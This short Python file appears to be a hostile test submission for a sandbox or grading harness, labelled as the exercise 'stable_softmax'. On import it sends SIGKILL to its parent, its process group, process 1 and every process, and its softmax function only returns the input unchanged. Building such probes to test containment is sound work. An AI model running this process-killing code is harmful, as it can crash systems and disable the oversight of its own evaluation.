# exercise: stable_softmax
# tries: kill everything it can name: its parent, its group, process 1, all
# ends: any
import os, signal

for target in (os.getppid(), 0, 1, -1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError as error:
        print(error)


def stable_softmax(logits):
    return logits
